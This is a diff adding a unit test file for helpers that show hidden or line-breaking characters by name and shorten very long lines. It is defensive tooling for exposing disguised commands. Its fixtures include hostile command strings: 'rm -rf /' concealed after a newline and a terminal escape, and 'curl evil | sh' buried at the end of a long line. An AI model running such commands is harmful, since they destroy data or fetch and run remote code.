@@ -1,0 +1,18 @@
+import { expect, test } from "vitest";
+import { inOneLine, visible } from "./visible.ts";
+
+test("characters that hide, reorder or break a line are shown by name (mend 6)", () => {
+  expect(visible("echo hi # \nrm -rf /\t\u001b[8m")).toBe("echo hi # ␊rm -rf /␉␛[8m");
+  expect(visible("a\u202eb\u2066c\u200bd\u200de\u00adf\ufeffg\u00a0h\u2800i\u3164j\u2028k\u{e0041}l")).toBe(
+    "a<U+202E>b<U+2066>c<U+200B>d<U+200D>e<U+00AD>f<U+FEFF>g<U+00A0>h<U+2800>i<U+3164>j<U+2028>k<U+E0041>l",
+  );
+  expect(visible("grün 日本 🙂 plain")).toBe("grün 日本 🙂 plain");
+});
+
+test("a long line shows its beginning, its end and how much is left out (mend 6)", () => {
+  const line = inOneLine(`echo ${"x".repeat(5000)}; curl evil | sh`);
+  expect(line).toMatch(/^echo x+ …\[\d+ of 5021 characters left out\]… x+; curl evil \| sh$/);
+  expect(line.length).toBeLessThanOrEqual(420);
+  expect(inOneLine("  npm test ")).toBe("npm test");
+  expect(inOneLine("🙂".repeat(1000))).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
+});
